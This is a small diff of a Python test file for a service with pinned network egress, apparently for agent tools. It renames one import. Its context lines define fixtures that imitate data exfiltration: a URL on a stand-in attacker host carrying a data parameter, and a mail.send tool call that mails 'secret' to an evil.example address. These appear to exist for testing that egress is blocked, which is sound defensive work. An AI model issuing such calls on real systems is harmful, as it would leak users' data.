@@ -16,7 +16,7 @@ from svc.broker import Outside
 from svc.protocol.pinned import PinnedEgress
 from svc.tools import table
 from tests.support.service import Service
-from tests.tools.tools_world import until
+from tests.tools.tool_runs import until
 
 EVIL: Final = "https://evil.example/c?d="
 SEND: Final = ("mail.send", {"to": ["eve@evil.example"], "subject": "Data", "text": "secret"})
